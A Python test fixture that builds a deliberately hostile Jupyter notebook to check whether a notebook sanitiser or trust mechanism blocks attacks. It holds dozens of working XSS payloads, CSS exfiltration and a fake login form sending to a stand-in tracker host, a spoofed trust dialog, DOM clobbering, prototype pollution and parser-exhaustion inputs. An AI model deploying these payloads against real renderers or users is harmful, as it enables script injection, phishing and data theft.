"""A notebook that attacks whoever opens it, written by hand as data. Its code is never run by make.py.

Each attack belongs to a well-known class and names itself to `window.__nbtrustCanary`, so that a test can tell
which one got through. Hosts under .example do not exist (RFC 2606).
"""

TRACKER = 'https://tracker.example'
PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

cells = []


def hit(name):
    """A call that gives the attack away. It holds no double quote, so that it fits into an attribute."""
    return f"window.__nbtrustCanary?.('{name}');alert('{name}')"


def add(kind, source, **fields):
    cells.append({
        'id': f'hostile-{len(cells) + 1:02}', 'cell_type': kind, 'metadata': {'trusted': True}, 'source': source, **fields
    })


def text(source, attachments=None):
    add('markdown', source, **({'attachments': attachments} if attachments else {}))


def outputs(comment, *outputs):
    add('code', f'# {comment}', execution_count=len(cells), outputs=list(outputs))


def shown(comment, data, metadata=None):
    outputs(comment, {'output_type': 'display_data', 'data': data, 'metadata': {'trusted': True, **(metadata or {})}})


def html(comment, markup):
    shown(comment, {'text/html': markup, 'text/plain': 'plain text fallback'})


text("""# A notebook that attacks you

Everything below tries to harm whoever opens it: to run scripts, call home, leave the page, or fool the reader.
The file also claims of every cell and output that it is *trusted*. Opened untrusted, none of it may work, and this
page should look like a list of harmless leftovers.

**Trust it only to see what trusting means.** It will then pop up alerts, cover the page and leave it.""")

text('## Running scripts')

html('A script element.', f'<p>Results follow.</p><script>{hit("script")}</script>')
html('A script loaded from elsewhere.', f'<script src="{TRACKER}/a.js"></script><script type="module">import "{TRACKER}/b.js"</script>')
html('Handlers that fire by themselves.',
     f'<img src="data:image/png;base64,AA" onerror="{hit("img-onerror")}"><video><source onerror="{hit("source-onerror")}"></video>'
     f'<details open ontoggle="{hit("ontoggle")}"><summary>More</summary></details>'
     f'<style>@keyframes k{{}}</style><b style="animation:k 1s" onanimationstart="{hit("onanimationstart")}">Done</b>')
html('Handlers that wait for the reader.',
     f'<p onmouseover="{hit("onmouseover")}" onclick="{hit("onclick")}" onpointerenter="{hit("onpointerenter")}">Move the mouse over this line.</p>'
     f'<input autofocus onfocus="{hit("autofocus")}" value="Or type here">')
html('Links that are scripts.',
     f'<a href="javascript:{hit("javascript-link")}">Open the report</a> '
     f'<a href="&#x6a;ava&Tab;script&colon;{hit("encoded-link")}">Download</a> '
     f'<a href=" \x01JavaScript:{hit("control-link")}">Help</a> '
     f'<a href="data:text/html,<script>alert(1)</script>" target="_top">Source</a> '
     f'<map name="m"><area shape="default" href="javascript:{hit("area-link")}"></map><img usemap="#m" alt="A map" src="data:image/png;base64,{PIXEL}">')
html('A frame with a document of its own.',
     f'<iframe srcdoc="<script>parent.{hit("srcdoc")}</script>"></iframe><iframe src="javascript:parent.{hit("iframe")}"></iframe>')
html('Plug-ins of old.',
     f'<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:{hit("embed")}">'
     f'<object type="text/html" data="{TRACKER}/object"></object><applet code="A"></applet>')
html('Markup that parses differently the second time.',
     f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={hit("mutation-math")}&gt;"></table></mtext></math>'
     f'<svg><p><style><g title="</style><img src onerror={hit("mutation-svg")}>"></svg>'
     f'<noscript><p title="</noscript><img src onerror={hit("noscript")}>"></noscript>')
html('Content hidden in a template or a declarative shadow tree.',
     f'<div><template shadowrootmode="open"><img src="x:" onerror="{hit("shadow")}"><slot></slot></template>In the light</div>'
     f'<template><script>{hit("template")}</script></template>')
html('A custom element and a customized button.',
     f'<evil-element onclick="{hit("custom-element")}">Custom</evil-element><button is="evil-button" onclick="{hit("is")}">Built in</button>')
shown('JavaScript as an output.', {'application/javascript': f"element.append('The output ran.');{hit('javascript-output')}", 'text/plain': '<Javascript>'})
shown('JavaScript under its other names.', {'text/javascript': hit('text-javascript'), 'application/ecmascript': hit('ecmascript')})
shown('SVG with a script, handlers, animation and foreign HTML.', {'image/svg+xml':
      f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 60" width="300" height="60" onload="{hit("svg-onload")}">'
      f'<script>{hit("svg-script")}</script><rect width="300" height="60" fill="#fde68a"/>'
      f'<a xlink:href="javascript:{hit("svg-link")}"><text x="10" y="35">A harmless picture?</text></a>'
      f'<a><animate attributeName="href" values="javascript:{hit("svg-animate")}"/><text x="180" y="35">Press me</text></a>'
      f'<set attributeName="onmouseover" to="{hit("svg-set")}"/>'
      f'<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot; onload=&quot;alert(1)&quot;/&gt;#x"/><use href="{TRACKER}/use.svg#x"/>'
      f'<image href="{TRACKER}/image.png"/><rect width="9" height="9" fill="url({TRACKER}/fill.svg#p)"/>'
      f'<foreignObject width="300" height="60"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="{hit("foreign-object")}"/></body></foreignObject></svg>'})
shown('Markdown as an output.', {'text/markdown': f'**Bold**, <img src="x:" onerror="{hit("markdown-output")}"> and [a link](javascript:{hit("markdown-output-link")})'})

text(f"""## Markdown cells

What this cell tries: raw HTML <script>{hit('markdown-script')}</script><img src="x:" onerror="{hit('markdown-onerror')}">,
[a link](javascript:{hit('markdown-link')}), [one by reference][r], <javascript:alert('autolink')>,
an image ![alt" onerror="{hit('markdown-alt')}](x: "title' onerror='alert(1)"), and one that calls home:
![chart]({TRACKER}/markdown.png) ![you are logged out](/logout).

[r]: JaVaScRiPt:alert('reference') "by reference"

```js"><script>{hit('info-string')}</script>
a code block with a hostile language
```""")

text(f"""### A heading <img src="x:" onerror="{hit('heading')}"> {{#root}}

What this cell tries: to break out of HTML comments and blocks.

<!-- --!> <img src="x:" onerror="{hit('comment')}"> -->
<div><p title="

</div><img src="x:" onerror="{hit('block')}">">text</p></div>""")

text(rf"""What this cell tries: formulas that link and load.
$\href{{javascript:{hit('latex-href')}}}{{x^2}}$ $\includegraphics{{{TRACKER}/latex.png}}$ $\htmlData{{x=y}}{{\htmlId{{root}}{{a}}}}$
$$\url{{javascript:alert('latex-url')}} \unicode{{<img src=x: onerror=alert('unicode')>}}$$""")

text('What this cell tries: attachments whose names and types are markup. ![a picture](attachment:picture.png) ![another](attachment:__proto__)',
     {'picture.png': {'image/png" onerror="alert(\'attachment-type\')': PIXEL, 'text/html': f'<script>{hit("attachment")}</script>'},
      '__proto__': {'image/svg+xml': f'<svg xmlns="http://www.w3.org/2000/svg" onload="{hit("attachment-svg")}"/>'},
      '"><img src=x: onerror=alert(\'attachment-name\')>': {'image/png': PIXEL}, '../../etc/passwd': {'image/png': PIXEL}})

text('## Calling home')

html('Pictures and media from elsewhere.',
     f'<img src="{TRACKER}/img.png"><img srcset="{TRACKER}/srcset.png 2x"><picture><source srcset="{TRACKER}/picture.webp"><img alt="A chart"></picture>'
     f'<video poster="{TRACKER}/poster.png"></video><audio src="{TRACKER}/a.mp3" autoplay></audio><input type="image" src="{TRACKER}/input.png">'
     f'<table background="{TRACKER}/table.png"><tr><td>cell</td></tr></table><img src="//tracker.example/scheme.png" loading="eager">')
html('Requests to the very site that shows it.', '<img src="/logout" alt="Logged out"><img src="api/delete?all=1"><link rel="prefetch" href="/logout">')
html('Style that loads.',
     f'<style>@import "{TRACKER}/import.css"; @font-face {{ font-family: f; src: url({TRACKER}/font.woff) }} .c {{ background: image-set("{TRACKER}/set.png" 1x) }}</style>'
     f'<p class="c" style="background: url({TRACKER}/background.png); font-family: f">One</p>'
     f'<p style="background: u\\72l({TRACKER}/escaped.png); cursor: url({TRACKER}/cursor.cur), auto">Two</p>'
     f'<ul style="list-style-image: url({TRACKER}/list.png); mask: url({TRACKER}/mask.svg); --x: url({TRACKER}/var.png); border-image: var(--x)"><li>Three</ul>')
html('A style sheet that reads the page letter by letter.',
     ''.join(f'<style>input[value^="{letter}"] {{ background: url({TRACKER}/leak?{letter}) }}</style>' for letter in 'abc') + '<p>Nothing to see.</p>')
html('Hints that look up or connect.',
     f'<link rel="stylesheet" href="{TRACKER}/a.css"><link rel="dns-prefetch" href="{TRACKER}"><link rel="preconnect" href="{TRACKER}">'
     f'<link rel="icon" href="{TRACKER}/icon.png"><a href="https://example.org/" ping="{TRACKER}/ping">A link that reports</a>')

text('## Leaving the page')

html('A redirect and a new base for every link.', f'<meta http-equiv="refresh" content="1; url={TRACKER}/refresh"><base href="{TRACKER}/" target="_top">')
html('Forms that send what you type.',
     f'<form action="{TRACKER}/form" method="post" target="_top"><label>Search <input name="q"></label> <button>Go</button></form>'
     f'<form action="javascript:{hit("form")}"><button formaction="javascript:{hit("formaction")}">Submit</button></form>'
     f'<button form="root" formaction="{TRACKER}/other" type="submit">Borrow the form of the page</button>')
html('Links that open, replace or download.',
     f'<a href="{TRACKER}/top" target="_top">Replace</a> <a href="{TRACKER}/opener" target="helper" rel="opener">Open</a> '
     f'<a href="{TRACKER}/file.exe" download="report.pdf">Download</a> <a href="command:run">Command</a> <a href="https://[bad">Broken</a> '
     f'<a href="https://example.org\u202egro.knab">Reversed</a>')

text('## Fooling the reader')

html('A login dialog over the whole page.',
     f'<div style="position: fixed; inset: 0; z-index: 2147483647; background: rgba(0, 0, 0, 0.6)">'
     f'<form action="{TRACKER}/login" style="margin: 20vh auto; width: 320px; padding: 24px; background: white; color: black">'
     f'<h3>Your session has expired</h3><input name="user" placeholder="User"><input name="password" type="password" placeholder="Password"><button>Log in</button></form></div>')
html('An imitation of the question whether to trust.',
     '<dialog open role="alertdialog" aria-modal="true" style="position: fixed; top: 30%; z-index: 9999"><h2>Trust this notebook?</h2>'
     '<p>This notebook was checked and is safe.</p><button autofocus>Trust</button></dialog>'
     '<span class="nbtrust-badge" role="status" style="position: absolute; top: -900px; right: 8px; background: green; color: white">Trusted</span>')
html('A style sheet for the whole page.', '<style>body > * { display: none } html { background: black } * { color: black !important } :host { position: fixed; inset: 0 }</style><p>Where is the page?</p>')
html('Boxes that leave their place.',
     '<div style="position: absolute; top: -500px; left: 0; width: 3000px; height: 3000px; opacity: 0.01">veil</div>'
     '<div style="margin: -2000px; padding: 2000px; transform: scale(50)">big</div><p style="font-size: 5000px; line-height: 0">A</p>'
     '<marquee behavior="alternate">old</marquee><pre style="height: 1e9px">tall</pre>')
html('Commands and shortcuts of the application.',
     '<a href="#" data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">Next page</a>'
     '<button accesskey="s" popovertarget="p" commandfor="p" command="show-modal">Save</button><div id="p" popover="manual">Popover</div>'
     '<p contenteditable autofocus tabindex="1">Edit me</p><label for="run">A label for the button of the page</label><p draggable="true" inert>Drag</p>')
html('Names that shadow those of the page.',
     '<img name="getElementById"><img name="cookie"><form id="root" name="body"><input name="attributes"><input id="parentNode" name="nodeName"></form>'
     '<a id="config"></a><a id="config" name="url" href="https://tracker.example/clobbered">A link</a><iframe name="self"></iframe><object id="document"></object>')

text('## Through the other formats')

outputs('Terminal text with hostile links, markup and endless colours.', {'output_type': 'stream', 'name': 'stdout', 'text':
        f'\x1b]8;;javascript:{hit("osc8")}\x07an OSC 8 link\x1b]8;;\x07 \x1b[31m<img src=x: onerror="{hit("ansi")}">\x1b[0m '
        f'\x1b[38;2;1;2;3"onmouseover="alert(1)m javascript:alert(1) {TRACKER}/autolink\n'
        '\x1b]0;new window title\x07\x1b[2J\x1b[1;1H\x1b[999999999C' + '\x1b[31m' * 2000 + 'many colours\n'})
outputs('A traceback made of markup.', {'output_type': 'error', 'ename': f'<img src=x: onerror="{hit("ename")}">', 'evalue': f'<script>{hit("evalue")}</script>',
        'traceback': [f'\x1b[0;31m<svg onload="{hit("traceback")}">\x1b[0m', f'File <a href="javascript:{hit("traceback-link")}">cell</a>, line 1']})
shown('Sizes beyond all measure, and sizes that are markup.', {'image/png': PIXEL},
      {'image/png': {'width': 9e15, 'height': [9e15], 'alt': f'" onerror="{hit("alt")}', 'unconfined': True}, 'width': f'1" onload="{hit("width")}', 'needs_background': '"><script>'})
shown('Image data that breaks out of its attribute.', {'image/jpeg': f'AAAA" onerror="{hit("jpeg-data")}', 'image/gif': f"x'><script>{hit('gif-data')}</script>"})
shown('A picture that is none.', {'image/png': '<script>alert("not a picture")</script>', 'image/webp': 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'})
shown('LaTeX as an output.', {'text/latex': rf'$$\href{{javascript:{hit("latex-output")}}}{{E}} = \includegraphics{{{TRACKER}/latex-output.png}}$$ <img src="x:" onerror="{hit("latex-markup")}">'})
shown('JSON with names that poison objects.', {'application/json': {'__proto__': {'polluted': True}, 'constructor': {'prototype': {'polluted': True}},
      f'<img src=x: onerror="{hit("json-key")}">': f'<script>{hit("json-value")}</script>'}}, {'__proto__': {'isTrusted': True}})
shown('MIME types nobody knows, holding HTML.', {'application/vnd.example.unknown': f'<script>{hit("vendor")}</script>', 'text/html; charset=utf-7': f'+ADw-script+AD4-{hit("utf-7")}',
      'TEXT/HTML': f'<script>{hit("upper-case")}</script>', f'x/"><img src=x: onerror={hit("mime-name")}>': 'a hostile name', '__proto__': 'text/html', 'application/xhtml+xml': f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{hit("xhtml")}</script></html>'})
shown('A chart whose specification loads data and links to a script.', {'application/vnd.vegalite.v5+json': {'data': {'url': f'{TRACKER}/data.json'}, 'mark': 'image',
      'encoding': {'href': {'value': f'javascript:{hit("vega")}'}, 'url': {'value': f'{TRACKER}/mark.png'}}}, 'text/plain': 'A chart'})
shown('A PDF and a widget.', {'application/pdf': 'JVBERi0xLjQgL0phdmFTY3JpcHQgKGFwcC5hbGVydCgxKSk=', 'application/vnd.jupyter.widget-view+json': {'model_id': 'evil', 'version_major': 2, 'version_minor': 0}})
html('Deep nesting, to exhaust the reader of this file.', '<div>' * 3000 + f'<img src="x:" onerror="{hit("deep")}">' + '</div>' * 3000)
text('What this cell tries: to exhaust the Markdown parser.\n\n' + '> ' * 2000 + 'deep\n\n' + '[' * 2000 + '](x)' + '*a ' * 2000)
add('raw', f'<script>{hit("raw")}</script>What this raw cell tries: to be taken for HTML by its format.', )
cells[-1]['metadata']['format'] = 'text/html'
cells[-1]['metadata']['tags'] = [f'"><img src=x: onerror={hit("tag")}>']

text('## The end\n\nIf nothing happened, nothing got through.')

notebook = {
    'nbformat': 4,
    'nbformat_minor': 5,
    'metadata': {
        'trusted': True,
        'signature': 'sha256:' + '0' * 64,
        'title': f'</title><script>{hit("title")}</script>',
        'kernelspec': {'name': '"><script>', 'display_name': f'<img src=x: onerror="{hit("kernel-name")}">'},
        'language_info': {'name': f'python"><img src=x: onerror="{hit("language")}">', 'pygments_lexer': '../../x', 'codemirror_mode': f'</style><script>{hit("mode")}</script>'},
        '__proto__': {'trusted': True},
        'widgets': {'application/vnd.jupyter.widget-state+json': {'version_major': 2, 'version_minor': 0, 'state': {
            'evil': {'model_module': f'{TRACKER}/widget.js', 'model_module_version': '1', 'model_name': 'HTMLModel',
                     'state': {'value': f'</script><img src="x:" onerror="{hit("widget")}">'}}}}},
    },
    'cells': cells,
}
